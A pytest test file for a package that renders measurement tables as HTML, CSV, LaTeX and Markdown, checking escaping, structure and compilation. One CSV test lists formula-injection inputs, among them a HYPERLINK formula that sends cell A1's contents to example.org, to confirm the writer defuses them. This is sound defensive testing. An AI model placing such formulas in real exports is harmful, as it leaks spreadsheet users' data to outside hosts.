"""Tables as HTML, CSV, LaTeX and Markdown."""

import csv
import io
import re
import shutil
import subprocess
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from eigentime_report.tables import Between, Column, Marked, Row, Table, write
from eigentime_report.tables.writers import PACKAGES, escape

NASTY = 'a|b <i> & "c" 100% $5 #1 _x_ {y} ~ ^ \\ *z* µs ± × − ≈ ω² “q”'

TABLE = Table(
    key="costs",
    title="What things cost & more",
    columns=(
        Column("what", "What"),
        Column("level", "Level", band="Here"),
        Column("mean", "Mean", "ns", band="Here"),
        Column("overhead", "Overhead", "+%", band="Here"),
        Column("ci", "CI", "ns", is_interval=True),
    ),
    rows=(
        Row((Marked("vdso_x", "a"), "baseline", 1 / 3, None, Between(0.1, 0.7)), "x"),
        Row((Marked("vdso_x", "a"), "vm", Marked(2.5, "c"), 650.0, None), "x"),
        Row((NASTY, "vm", 3, -0.5, Between(None, 4.0))),
    ),
    notes=("(a) A note with <b> & 5 %.",),
    caption="All of it.",
)
EMPTY = Table("none", "Nothing", TABLE.columns, ())


class Cells(HTMLParser):
    """Rows of cells with their tags and attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.rows: list[list[tuple[str, dict[str, str | None], str]]] = []
        self.open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "wbr":
            return
        self.open.append(tag)
        if tag == "tr":
            self.rows.append([])
        if tag in ("th", "td"):
            self.rows[-1].append((tag, dict(attrs), ""))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if {"th", "td"} & set(self.open):
            tag, attributes, text = self.rows[-1][-1]
            self.rows[-1][-1] = (tag, attributes, text + data)


def test_html_names_are_broken_behind_underscores() -> None:
    named = Table("k", "T", (Column("metric", "Metric"),), (Row(("clock_nanosleep",)),))
    html = write(named, "html")
    assert '<th scope="row">clock_<wbr>nanosleep</th>' in html
    assert Cells(html).rows[-1][0][2] == "clock_nanosleep"


def test_html_has_headers_with_scopes() -> None:
    rows = Cells(write(TABLE, "html")).rows
    above, below, first, second, third = rows
    assert [(it[2], it[1].get("scope"), it[1].get("rowspan") or it[1].get("colspan")) for it in above] == [
        ("What", "col", "2"),
        ("Here", "colgroup", "3"),
        ("CI", "col", "2"),
    ]  # fmt: skip
    assert [it[2] for it in below] == ["Level", "Mean", "Overhead"]
    assert first[0][0] == "th" and first[0][1] == {"scope": "rowgroup", "rowspan": "2"}
    assert first[0][2] == "vdso_xa"
    assert [it[0] for it in second] == ["td"] * 4
    assert third[0][1]["scope"] == "row"
    assert third[0][2] == NASTY


def test_html_closes_what_it_opens_and_is_found_by_its_key() -> None:
    text = write(TABLE, "html")
    assert Cells(text).open == []
    assert '<figure class="table" id="costs">' in text
    assert 'aria-labelledby="costs-title"' in text and 'id="costs-title"' in text
    assert "<i>" not in text and "<b>" not in text
    assert "2.50 ns<sup>c</sup>" in text


def test_csv_has_full_precision_and_units_in_names() -> None:
    rows = list(csv.reader(io.StringIO(write(TABLE, "csv"))))
    assert rows[0] == ["what", "level", "mean_ns", "overhead_percent", "ci_low_ns", "ci_high_ns"]
    assert float(rows[1][2]) == 1 / 3
    assert rows[1] == ["vdso_x", "baseline", repr(1 / 3), "", "0.1", "0.7"]
    assert rows[2] == ["vdso_x", "vm", "2.5", "650.0", "", ""]
    assert rows[3] == [NASTY, "vm", "3", "-0.5", "", "4.0"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://example.org/?"&A1,"vm")',
        "=1+1",
        "+1",
        "-2",
        "@SUM(A1)",
        " =1",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
    ],
)
def test_csv_has_no_formulas_in_words(name: str) -> None:
    columns = (Column("level", "Level"), Column("change", "Change", "+%"))
    table = Table("t", "T", columns, (Row((Marked(name, "a"), -0.5), name),))
    text = write(table, "csv")
    (row,) = list(csv.reader(text.splitlines()))[1:]
    # As text, with all of it there, in one line; a number stays one.
    assert row == ["'" + re.sub(r"\s", " ", name), "-0.5"]


@pytest.mark.parametrize("name", ["vm", "a=b", "'quoted", "x-y", "–", ""])
def test_csv_has_other_words_as_they_are(name: str) -> None:
    table = Table("t", "T", (Column("level", "Level"),), (Row((name,)), Row(("x",))))
    text = write(table, "csv")
    assert list(csv.reader(io.StringIO(text)))[1] == ([name] if name else [""])


def test_markdown_has_as_many_cells_in_each_row() -> None:
    lines = [line for line in write(TABLE, "markdown").splitlines() if line.startswith("|")]
    counts = {len(re.findall(r"(?<!\\)\|", line)) for line in lines}
    assert counts == {len(TABLE.columns) + 1}
    assert lines[1] == "| :--- | :--- | ---: | ---: | ---: |"
    assert lines[0].startswith("| What | Here: Level | Here: Mean |")
    assert r"a\|b \<i\>" in lines[4]
    assert "2.50 ns <sup>c</sup>" in lines[3]


WIDE = Table(
    "wide",
    "A wide one",
    (
        Column("metric", "Metric"),
        Column("level", "Level"),
        *(
            Column(f"c{n}", f"Column {n}", "ns", band=f"Band {n // 6}" if n > 2 else "")
            for n in range(24)
        ),
        Column("why", "Why"),
    ),
    tuple(
        Row(
            (
                Marked("vdso_clock_gettime_monotonic/with/a/long/name", "a"),
                level,
                *(Marked(12.345 * (n + 1), "c") for n in range(24)),
                f"{NASTY} {'and so on and on ' * 9}",
            ),
            "metric",
        )
        for level in ("baseline", "namespace_of_somebody", NASTY)
    ),
    ("A note. https://doi.org/10.1109/CloudSummit54781.2022.00016", NASTY),
)
LATEX = {
    "narrow": TABLE,
    "empty": EMPTY,
    "wide": WIDE,
    "across": replace(
        WIDE,
        columns=WIDE.columns[:9],
        rows=tuple(Row(row.cells[:9], row.group) for row in WIDE.rows),
    ),
}
# A command, a character with a backslash, a brace, an ampersand, a comment, or what else there is.
TOKENS = re.compile(r"\\[a-zA-Z]+\*?|\\.|[{}&]|%[^\n]*|[#$^_~]|[^\\{}&%#$^_~]+", re.DOTALL)


def tokens(text: str) -> list[str]:
    """What TeX reads, comments left out; all braces and environments are closed in their order."""
    found = TOKENS.findall(text)
    assert "".join(found) == text
    found = [it for it in found if not it.startswith("%")]
    open_braces = 0
    for token in found:
        open_braces += (token == "{") - (token == "}")
        assert open_braces >= 0
        # A tie, and mathematics, are all that is meant to be special.
        assert token not in {"#", "^", "_"}
    assert open_braces == 0 and found.count("$") % 2 == 0
    environments: list[str] = []
    for begins, name in re.findall(r"\\(begin|end)\{(\w+)\}", text):
        if begins == "begin":
            environments.append(name)
        else:
            assert environments.pop() == name
    assert environments == []
    return found


def longtables(text: str) -> list[tuple[int, list[int]]]:
    """How many columns each part of a table has, and how many each of its rows has."""
    found = []
    for part in re.findall(r"\\begin\{longtable\}(.*?)\\end\{longtable\}", text, re.DOTALL):
        columns, body = part.split("\n", 1)
        rows = []
        for row in re.findall(r"^(.*) \\\\$", body, re.MULTILINE):
            spans = [int(it) for it in re.findall(r"\\multicolumn\{(\d+)\}", row)]
            rows.append(tokens(row).count("&") + 1 + sum(spans) - len(spans))
        found.append((columns.count("p{"), rows))
    return found


@pytest.mark.parametrize("name", LATEX)
def test_latex_is_sound_whatever_stands_in_it(name: str) -> None:
    text = write(LATEX[name], "latex")
    assert text.isascii()
    tokens(text)
    parts = longtables(text)
    for columns, rows in parts:
        assert len(rows) >= 3
        assert set(rows) == {columns}


def test_latex_has_bands_above_their_columns() -> None:
    text = write(TABLE, "latex")
    assert r"\cmidrule(lr){2-4}" in text and r"\multicolumn{3}{c}{Here}" in text
    (rows,) = [rows for _, rows in longtables(text)]
    # Names twice, with what is above them, and the rows themselves.
    assert len(rows) == 2 * 2 + len(TABLE.rows)
    assert "landscape" not in text.split("\n", 1)[1]


def test_latex_sets_across_what_is_wide_and_parts_what_is_wider() -> None:
    across = write(LATEX["across"], "latex")
    assert across.count(r"\begin{landscape}") == 1
    assert [columns for columns, _ in longtables(across)] == [9]
    wide = write(WIDE, "latex")
    parts = [columns for columns, _ in longtables(wide)]
    assert wide.count(r"\begin{landscape}") == 1 and len(parts) > 1
    # Each part has the names of the rows.
    assert sum(parts) == len(WIDE.columns) + 2 * (len(parts) - 1)
    assert wide.count(r"\label{") == 1
    assert wide.count(r"\addtocounter{table}{-1}") == len(parts) - 1
    assert f"part {len(parts)} of {len(parts)}" in wide


def test_latex_leaves_out_rows_of_which_all_is_in_another_part() -> None:
    first, second, third = WIDE.rows
    bare = replace(second, cells=(*second.cells[:1], *[None] * 25, *second.cells[26:]))
    before, after = (
        [len(rows) for _, rows in longtables(write(it, "latex"))]
        for it in (WIDE, replace(WIDE, rows=(first, bare, third)))
    )
    assert [most - least for most, least in zip(before, after, strict=True)] == [
        *[1] * (len(before) - 1),
        0,
    ]


ENGINES: dict[str, list[str]] = {
    "pdflatex": ["-draftmode", "-interaction=nonstopmode", "-halt-on-error"],
    "tectonic": ["--print"],
}


def test_latex_compiles_and_fits_on_the_paper(tmp_path: Path) -> None:
    engine = next(filter(shutil.which, ENGINES), None)
    if engine is None:
        pytest.skip(f"skipped: needs TeX: {' or '.join(ENGINES)}")
    tables = "\n".join(write(table, "latex") for table in LATEX.values())
    document = (
        rf"\documentclass{{article}}\usepackage[T1]{{fontenc}}{PACKAGES}"
        rf"\begin{{document}}{tables}\end{{document}}"
    )
    (tmp_path / "it.tex").write_text(document, encoding="utf-8")
    made = subprocess.run(
        [engine, *ENGINES[engine], "it.tex"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert made.returncode == 0, made.stdout[-2000:]
    beyond = re.findall(r"Overfull \\hbox \(([\d.]+)pt", made.stdout)
    assert [it for it in beyond if float(it) > 5] == []


@pytest.mark.parametrize("form", ["html", "latex", "markdown"])
def test_notes_titles_and_captions_are_there(form: str) -> None:
    text = write(TABLE, form)  # type: ignore[arg-type]
    assert "All of it." in text
    assert "What things cost" in text
    assert "A note with" in text


@pytest.mark.parametrize("form", ["html", "latex", "markdown"])
def test_an_empty_table_says_so(form: str) -> None:
    assert "Nothing was measured." in write(EMPTY, form)  # type: ignore[arg-type]


def test_an_empty_csv_has_its_names() -> None:
    assert write(EMPTY, "csv").count("\n") == 1


def test_an_unknown_form_is_told() -> None:
    with pytest.raises(ValueError, match="html, csv, latex, markdown, not as pdf"):
        write(TABLE, "pdf")  # type: ignore[arg-type]


def test_dollar_signs_begin_no_formula_in_markdown() -> None:
    assert escape("$x^2$ and ${y}") == r"\$x^2\$ and \${y}"
